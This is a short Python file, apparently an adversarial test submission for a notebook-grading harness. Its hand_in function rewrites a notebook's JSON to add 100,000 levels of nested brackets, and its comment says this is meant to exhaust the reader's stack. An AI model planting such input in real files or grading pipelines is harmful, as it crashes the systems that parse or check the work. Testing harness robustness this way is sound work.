# tries = "nests its metadata so deeply that whoever reads it runs out of stack"
# exercise = "which-was-it"
# hands_in = true


def hand_in(folder, notebook):
    text = notebook.read_text().rstrip().removesuffix("}")
    notebook.write_text(text + ', "deep": ' + "[" * 100000 + "]" * 100000 + "}")
